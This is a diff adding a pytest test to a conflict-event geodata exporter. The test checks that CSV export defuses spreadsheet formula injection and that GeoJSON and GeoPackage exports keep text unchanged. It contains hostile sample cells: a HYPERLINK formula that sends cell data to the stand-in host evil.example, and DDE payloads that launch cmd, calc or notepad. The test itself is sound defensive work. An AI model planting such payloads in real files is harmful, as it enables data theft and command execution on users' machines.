@@ -273,3 +273,73 @@ def test_csv_has_acled_codes_location_as_written_and_sources(store, gaz, tmp_pat
     gdf = gpd.read_file(tmp_path / "e.gpkg", layer="events")
     row = gdf[gdf["doc_id"] == "vac"].iloc[0]
     assert (row["location"], row["geo_precision"], row["interaction"]) == ("Tin-Barkoudou", 3, 37)
+
+
+def test_csv_cells_that_start_like_a_formula_are_text(tmp_path, gaz):
+    """OWASP's rule against CSV injection: a text cell beginning with =, +, -, @, tab or CR gets
+    a leading apostrophe, so Excel and LibreOffice show it as text; numbers stay numbers (a
+    negative longitude is no formula), and GeoJSON keeps the text as it is."""
+    from geo.export import FORMULA_STARTS
+
+    bamako = gaz.candidates("Bamako", lang="fr")[0].place
+    assert bamako.lon < 0
+    hostile = [
+        '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1 après une tabulation",
+        "\r=1+1 après un retour chariot",
+    ]
+    text = " ".join(hostile)
+    store = open_store(tmp_path / "hostile.sqlite")
+    store.add(
+        Extracted(
+            Document("formula", text, "fr", published="2024-05-02", source="=cmd|' /C notepad'!A0"),
+            "fr",
+            DateValue("2024-05-02", "day"),
+            (),
+            tuple(
+                Event(
+                    "Battles",
+                    None,
+                    s,
+                    text.index(s),
+                    text.index(s) + len(s),
+                    actors=("@acteur", "-milice"),
+                    fatalities=5,
+                    place=bamako,
+                    place_precision="city",
+                    location="=Bamako",
+                    fatalities_phrase="-5 morts",
+                )
+                for s in hostile
+            ),
+            (),
+        )
+    )
+    out = tmp_path / "e.csv"
+    assert export_events(store, "csv", out) == len(hostile)
+    with out.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert sorted(r["notes"] for r in rows) == sorted("'" + s for s in hostile)
+    for row in rows:
+        assert row["source"] == "'=cmd|' /C notepad'!A0"
+        assert (row["location"], row["fatalities_phrase"]) == ("'=Bamako", "'-5 morts")
+        assert row["actor1"] == "'@acteur" and row["actor2"] == "'-milice"
+        # numbers stay numbers
+        assert float(row["longitude"]) == pytest.approx(bamako.lon) and row["fatalities"] == "5"
+        for col, cell in row.items():  # no cell left that a spreadsheet would evaluate
+            assert not cell.startswith(FORMULA_STARTS) or col in ("longitude", "latitude"), col
+    # the served CSV is the same file
+    from web import create_app
+
+    served = create_app({"STORE": store, "TESTING": True}).test_client().get("/export/events.csv")
+    assert served.status_code == 200 and served.data == out.read_bytes()
+    # the other formats keep the text as written
+    features = json.loads("".join(iter_geojson(store)))["features"]
+    assert sorted(f["properties"]["sentence"] for f in features) == sorted(hostile)
+    export_events(store, "gpkg", tmp_path / "e.gpkg")
+    gdf = gpd.read_file(tmp_path / "e.gpkg")
+    assert sorted(gdf["notes"]) == sorted(hostile)
+    store.close()
